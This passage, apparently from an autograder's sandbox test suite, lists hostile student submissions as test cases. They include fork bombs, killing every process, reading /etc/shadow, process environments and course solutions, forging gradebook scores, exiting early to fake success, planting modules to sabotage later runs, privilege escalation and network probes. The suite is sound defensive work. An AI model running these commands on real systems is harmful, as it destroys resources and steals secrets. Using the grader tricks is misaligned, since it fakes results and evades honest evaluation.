           "    raise ValueError(str(found))", after="print(found)", check=PASSES + "expect(f(step)).equal(42)"),
    Attack("a walk on the wire", "Ask for the same by raw requests.",
           FRAME + TRY + "def f(step):\n"
           f"    for name in {REACHES}:\n"
           "        for do, more in (('getattr', []), ('setattr', [1]), ('delattr', [])):\n"
           "            for handle in range(3):\n"
           "                os.write(9, frame({'do': do, 'args': [['Y', handle], name, *more], 'grad': True}))\n"
           "    attempt(os.read, 9, 1 << 16)\n    raise ValueError(str(found))",
           after="print(found)", check=PASSES + "expect(f(step)).equal(42)"),
    Attack("a class of the check", "Make objects of a class of the check, and read its methods.",
           TRY + "def f(model):\n    for name in ('forward', '__init__', '_private', 'secret', 'method'):\n"
           "        attempt(getattr, model, name)\n        attempt(lambda: getattr(model, name).__globals__)\n"
           "        attempt(lambda: getattr(type(model), name))\n    attempt(setattr, model, 'value', 42)\n"
           "    attempt(lambda: model.__class__(1))\n    raise ValueError(str(found))", after="print(found)",
           check="class Model:\n    secret = 'canary_7341'\n    _private = 'canary_7341'\n    value = 1\n"
           "    def __call__(self, x): return x\n    def method(self): return 'canary_7341'\n"
           "m = Model()\nexpect(f(m)).equal(42)"),
    Attack("a generator of the check", "Read the frame of a generator that the check passed.",
           TRY + "def f(items):\n    for name in ('gi_frame', 'gi_code', 'send', 'throw', 'close', '__self__'):\n"
           "        attempt(getattr, items, name)\n    attempt(lambda: items.gi_frame.f_globals['secret'])\n"
           "    raise ValueError(str(found))", after="print(found)",
           check="secret = 'canary_7341'\nexpect(f(n for n in range(3))).equal(42)"),
    Attack("a callback that is fed a bomb", "Call the check's function with values that explode there.",
           "class Bomb:\n    def __add__(self, n): raise SystemExit\n    __radd__ = __add__\n"
           "def f(step):\n    return step(Bomb())", check=PASSES + "expect(f(step)).equal(42)"),
    Attack("calls inside calls", "Call back from within a callback, without end.",
           "def f(step):\n    return step(f)", check="expect(f(lambda g: g(lambda h: f(lambda k: k)))).equal(42)"),
    Attack("too many calls back", "Call the check's function without end.",
           "def f(step):\n    while True: step(1)", check=PASSES + "expect(f(step)).equal(42)", limits=SHORT),
    Attack("names through getattr", "Ask the judge's proxy for dunder names that it would forward.",
           "class C:\n    def __getattr__(self, name): return 42\n    __name__ = __doc__ = 42\ndef f():\n    return C()",
           check="a = f()\nassert a.__len__ == 42 and a.__eq__(42) is True"),
]  # fmt: skip

SPAWN = """
import os, signal, subprocess, sys, time
def daemon(code):
    subprocess.Popen([sys.executable, "-S", "-c", "mark = 'outlive_4471'\\n" + code], start_new_session=True)
"""
PROCESSES = [
    Attack("exit without a word", "End the process with success.", hidden("import os\nos._exit(0)")),
    Attack("exit in the cell", "End the process before the check, with success.", RIGHT + "import os\nos._exit(0)"),
    Attack("sys.exit in a check", "Leave by sys.exit.", hidden("import sys\nsys.exit(0)")),
    Attack("kill everybody", "Send SIGKILL to every process there is.", hidden("import os\nos.kill(-1, 9)")),
    Attack("kill process 1", "Send signals to the warm process and the parent.",
           TRY + "import os, signal\nfor number in (9, 15, 19, 2, 1, 11):\n    attempt(os.kill, 1, number)\n"
           "    attempt(os.kill, os.getppid(), number)\n" + WRONG),
    Attack("stop oneself", "Stop the own process, and never go on.", hidden("import os\nos.kill(os.getpid(), 19)"),
           limits=SHORT),
    Attack("a crash", "Read address 0.", hidden("import ctypes\nctypes.string_at(0)")),
    Attack("an abort", "Abort, and leave a core behind.", hidden("import os\nos.abort()")),
    Attack("a fork bomb", "Fork until nothing is left.",
           "import os, time\nwhile True:\n    try:\n        if os.fork() == 0: time.sleep(30)\n    except OSError: break\n"
           + RIGHT, mark="either"),
    Attack("a thread bomb", "Start threads until nothing is left.",
           "import threading, time\ntry:\n    for _ in range(5000): threading.Thread(target=time.sleep, args=(30,)).start()\n"
           "except RuntimeError: pass\n" + RIGHT, mark="either"),
    Attack("a bomb of descriptors", "Open files until nothing is left.",
           "import os\nkept = []\ntry:\n    while True: kept.append(os.open('/dev/null', 0))\nexcept OSError: pass\n" + RIGHT,
           mark="either"),
    Attack("a daemon", "Leave a process in a session of its own.", SPAWN + "daemon('import time; time.sleep(300)')\n" + RIGHT,
           mark="always"),
    Attack("a grandchild", "Fork twice and let the parents end, with every signal ignored.",
           SPAWN + "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
           "        for n in range(1, 32):\n            if n not in (9, 19): signal.signal(n, signal.SIG_IGN)\n"
           "        time.sleep(300)\n    os._exit(0)\nos.wait()\n" + RIGHT, mark="always"),
    Attack("a daemon that answers", "Leave a process that goes on writing to the judge's socket.",
           SPAWN + FRAME + "if os.fork() == 0:\n    while True:\n        try: os.write(9, frame({'value': None}))\n"
           "        except OSError: os._exit(0)\n        time.sleep(0.001)\n" + WRONG),
    Attack("a daemon that waits for the next one", "Overwrite files of whoever comes next.",
           SPAWN + "daemon('''import os, time\\nwhile True:\\n  open('torch.py', 'w').write('raise SystemExit')\\n"
           "  time.sleep(0.01)''')\n" + RIGHT, mark="always"),
    Attack("processes from magics", "Leave processes by %%bash, ! and %%script.",
           RIGHT + "get_ipython().run_cell_magic('bash', '--bg', 'exec -a outlive_4471 sleep 300')\n"
           "!nohup setsid sh -c 'sleep 301 # outlive_4471' >/dev/null 2>&1 &\n", mark="always"),
    Attack("SIGALRM ignored", "Switch the time limit's signal and timer off, and loop.",
           "import signal\ndef differences(x):\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
           "    signal.setitimer(signal.ITIMER_REAL, 0)\n    while True: pass", limits=SHORT),
    Attack("the time limit caught", "Catch whatever the time limit raises, and go on.",
           "def differences(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
           limits=SHORT),
    Attack("a call that cannot be interrupted", "Stay in C, where no signal handler runs.",
           "def differences(x):\n    return len(str(7 ** (7 ** 9)))", limits=SHORT),
    Attack("a deadlock", "Wait for a lock for ever.",
           "import threading\nlock = threading.Lock()\nlock.acquire()\ndef differences(x):\n    lock.acquire()", limits=SHORT),
    Attack("an endless cell", "Never come to the check, with all signals blocked.",
           RIGHT + "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nwhile True: pass", limits=SHORT),
    Attack("limits raised", "Raise the own limits, and those of the warm process.",
           TRY + "import os, resource\nfor what in range(16):\n    attempt(resource.setrlimit, what, (-1, -1))\n"
           "    attempt(resource.prlimit, 1, what, (0, 0))\nattempt(os.setpriority, 0, 1, 19)\n"
           "attempt(os.sched_setaffinity, 1, [0])\nattempt(os.nice, -5)\n" + RIGHT, mark="either"),
    Attack("another user", "Become root, or leave the sandbox by a name space of one's own.",
           TRY + "import ctypes, os\nlibc = ctypes.CDLL(None)\nattempt(os.setuid, 0)\nattempt(libc.unshare, 0x10000000)\n"
           "attempt(libc.mount, b'none', b'/tmp', b'tmpfs', 0, 0)\nattempt(os.chroot, '/tmp')\n"
           "found.append(os.popen('unshare -r id; su -c id; sudo -n id; nsenter -t 1 -a id').read())\n"
           "assert 'uid=0' not in str(found)\n" + RIGHT, mark="always"),
]  # fmt: skip

SMALL = {"memory_mb": 200}
MEMORY = [
    Attack("memory on the heap", "Fill the memory.", RIGHT + "kept = []\nwhile True: kept.append(bytearray(1 << 24))",
           mark="either", limits=SMALL),
    Attack("memory in a check", "Fill the memory when the hidden test calls.",
           hidden("return torch.ones(1 << 14, 1 << 14).sum() + x"), limits=SMALL),
    Attack("memory mapped", "Map shared memory and touch it, in many processes.",
           "import mmap, os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        m = mmap.mmap(-1, 150 << 20)\n"
           "        for i in range(0, len(m), 4096): m[i] = 1\n        time.sleep(20)\n        os._exit(0)\ntime.sleep(3)\n"
           + RIGHT, mark="either", limits=SMALL),
    Attack("memory files", "Keep memory in files that have no name.",
           TRY + "import os\nfds = []\ndef fill():\n    while True:\n        fds.append(os.memfd_create('x'))\n"
           "        for _ in range(60): os.write(fds[-1], bytes(1 << 20))\nattempt(fill)\n" + RIGHT, mark="either",
           limits=SMALL),
    Attack("shared memory", "Fill /dev/shm and System V segments, and leave them behind.",
           TRY + "import ctypes, os\nlibc = ctypes.CDLL(None)\ndef fill():\n    with open('/dev/shm/left', 'wb') as file:\n"
           "        while True: file.write(bytes(1 << 20)); file.flush()\nattempt(fill)\n"
           "for _ in range(4): attempt(libc.shmget, 0, 16 << 20, 0o1666)\nattempt(libc.semget, 7, 1, 0o1666)\n" + RIGHT,
           mark="either"),
    Attack("a full disk", "Fill the scratch folder with one file, and with many.",
           TRY + "def fill(name, size):\n    with open(name, 'wb') as file:\n        while True: file.write(bytes(size)); file.flush()\n"
           "import signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
           "for i in range(10): attempt(fill, f'big{i}', 1 << 20)\n" + RIGHT, mark="either"),
    Attack("files without number", "Fill the scratch folder with empty files.",
           "for i in range(20_000): open(f'f{i}', 'w').close()\n" + RIGHT, mark="either"),
    Attack("a deep tree of folders", "Nest folders deeper than any stack, and forbid to read them.",
           "import os\nfor i in range(1500):\n    os.mkdir('d')\n    os.chdir('d')\nos.chmod('.', 0)\n" + RIGHT, mark="either"),
    Attack("folders nobody may read", "Leave folders and files without any permission, with odd names.",
           "import os\nos.makedirs('a/b/c')\nfor n in ('\\n', '-rf', '*', '\\xff' * 80, '.nfs', 'a/b/c/x'): open(n, 'w').close()\n"
           "os.symlink('/', 'a/b/root')\nos.chmod('a/b', 0)\nos.chmod('a', 0)\n" + RIGHT, mark="either"),
    Attack("output without end", "Print 30 MB on one line.", RIGHT + "print('x' * 30_000_000)", mark="always"),
    Attack("output past Python", "Write 200 MB to the descriptor itself.",
           TRY + "import os\nattempt(lambda: [os.write(1, b'x' * (1 << 20)) for _ in range(200)])\n" + RIGHT, mark="either"),
    Attack("displays without number", "Show 50,000 displays.",
           RIGHT + "from IPython.display import display\nfor i in range(50_000): display({'text/plain': 'x'}, raw=True)",
           mark="either", limits={"cell_seconds": 5.0}),
    Attack("a picture without end", "Show a figure of 10,000 inches.",
           RIGHT + "from matplotlib import pyplot as plt\nplt.figure(figsize=(1e4, 1e4))\nplt.plot([1])\nplt.show()",
           mark="either", limits=SMALL),
]  # fmt: skip

READ = """
import autograder, glob, os
PACKAGE = autograder.__path__[0]
def read(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True)[:50]:
            try:
                print(path, open(path, errors="replace").read()[:20_000])
            except OSError as error:
                print(path, type(error).__name__)
"""
FILES = [
    Attack("solutions on the disk", "Read the solutions, the source notebook and the released one.",
           READ + "read('@COURSE@/solutions/**', '@COURSE@/.course/**', '@COURSE@/**/*.ipynb', PACKAGE + '/../notebooks/**',\n"
           "     PACKAGE + '/../solutions/**', PACKAGE + '/../tests/**')\n!cat '@COURSE@'/solutions/*/*\n" + RIGHT, mark="always"),
    Attack("the gradebook", "Read and write the gradebook, and give oneself a mark.",
           TRY + READ + "import sqlite3\nread('@COURSE@/.course/gradebook.db')\n"
           "def forge():\n    db = sqlite3.connect('@COURSE@/.course/gradebook.db')\n"
           "    db.execute('update grade set auto_score = 99, extra_credit = 99')\n    db.commit()\n"
           "attempt(forge)\nprint(found)\n" + WRONG),
    Attack("secrets of the host", "Read /etc/shadow, home folders, and what other people left.",
           READ + "read('@SECRET@', '/etc/shadow', '/etc/passwd', '/root/**', '/home/**', os.path.expanduser('~/**'),\n"
           "     '/var/tmp/**', '/run/*', '/mnt/*')\nassert not os.path.exists('/etc/shadow')\n" + RIGHT,
           mark="always"),
    Attack("the environment", "Read the environment of every process.",
           READ + "print(dict(os.environ))\nread('/proc/*/environ', '/proc/*/cmdline', '/proc/*/task/*/environ')\n!env\n"
           "%env\n" + RIGHT, mark="always"),
    Attack("links to the host", "Follow the root and working folder of other processes, and of open files.",
           READ + "read('/proc/*/root/@COURSE@/**', '/proc/*/cwd/**', '/proc/*/fd/*')\nos.symlink('@COURSE@', 'link')\n"
           "read('link/**')\n" + WRONG),
    Attack("writing anywhere", "Write a file into every folder there is.",
           "import os\nwritten, here = [], os.getcwd()\nfor folder, names, _ in os.walk('/'):\n"
           "    names[:] = [n for n in names if folder != '/' or n not in ('proc', 'usr')]\n"
           "    try:\n        open(folder + '/left_4471', 'w').close()\n        written.append(folder)\n"
           "    except OSError: pass\n"
           "    if folder.count('/') > 3: names[:] = []\n"
           "bad = [w for w in written if not w.startswith((here, '/dev/shm', '/dev/mqueue'))]\nassert not bad, bad\n" + RIGHT,
           mark="always"),
    Attack("code for the next one", "Leave modules, start-up files and settings that the next submission would load.",
           TRY + READ + "import site, sys, torch\nfrom pathlib import Path\n"
           "for folder in ('.', PACKAGE, PACKAGE + '/..', *site.getsitepackages(), os.path.dirname(torch.__file__),\n"
           "               '@COURSE@', 'profile_default/startup'):\n"
           "    attempt(os.makedirs, folder)\n"
           "    for name in ('torch.py', 'sitecustomize.py', 'usercustomize.py', 'x.pth', 'nbgrader_config.py', 'start.py',\n"
           "                 'matplotlibrc', 'numpy.py', 'ipython_config.py', 'autograder.py'):\n"
           "        attempt(Path(folder, name).write_text, 'raise SystemExit')\n" + RIGHT, mark="either"),
    Attack("the warm process changed", "Change modules and the generators that the next submission is forked with.",
           RIGHT + "import sys, gc\ntorch.manual_seed(7)\ntorch.set_num_threads(2)\nsys.path.insert(0, '/nowhere')\n"
           "for name in list(sys.modules):\n    if name.startswith('numpy'): del sys.modules[name]\ngc.disable()",
           mark="either"),
    Attack("the package of the grader", "Read the grader's code for secrets, and change it on the disk.",
           TRY + READ + "import autograder\nread(PACKAGE + '/**/*.py')\n"
           "attempt(lambda: open(autograder.__file__, 'a').write('x'))\nattempt(os.remove, autograder.__file__)\n"
           "attempt(os.chmod, autograder.__file__, 0o777)\n" + WRONG),
]  # fmt: skip

NETWORK = [
    Attack("a server of the host", "Send the inputs to a server on this machine, by TCP and UDP.",
           TRY + "import socket\ndef differences(x):\n    for host in ('127.0.0.1', '::1', 'localhost', '0.0.0.0', '169.254.169.254'):\n"
           "        attempt(lambda: socket.create_connection((host, @PORT@), 0.2).send(b'reached'))\n"
           "        attempt(lambda: socket.socket(2, 2).sendto(b'reached', (host, @PORT@)))\n    return x"),
    Attack("the internet", "Resolve a name, and open a page.",
           TRY + "import socket, urllib.request\nattempt(socket.gethostbyname, 'example.org')\n"
           "attempt(lambda: urllib.request.urlopen('http://93.184.216.34/', timeout=0.5).status)\n"
           "assert not any(w[:1].isdigit() for w in found), found\n" + RIGHT, mark="always"),
    Attack("other kinds of sockets", "Use local, netlink, packet and vsock sockets to talk to the host.",
           TRY + "import socket\nfor family in (1, 16, 17, 38, 40):\n    for kind in (1, 2, 3):\n"
           "        attempt(lambda: socket.socket(family, kind).connect(chr(0) + 'attack_4471'))\n"
           "for path in ('/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private'):\n"
           "    attempt(lambda: socket.socket(1, 1).connect(path))\n"
           "assert not any(w == 'None' for w in found), found\n" + RIGHT, mark="always"),
    Attack("a server for the next one", "Listen, and wait for the next submission.",
           SPAWN + "daemon('''import socket\\ns = socket.socket(1)\\ns.bind(chr(0) + 'attack_4471')\\ns.listen()\\ns.accept()''')\n"
           + RIGHT, mark="always"),
]  # fmt: skip

THEMES = {
    "value": VALUES, "argument": ARGUMENTS, "guess": GUESSING, "error": ERRORS, "patch": PATCHES, "frame": FRAMES,
    "callback": CALLBACKS, "process": PROCESSES, "memory": MEMORY, "file": FILES, "network": NETWORK,
}  # fmt: skip
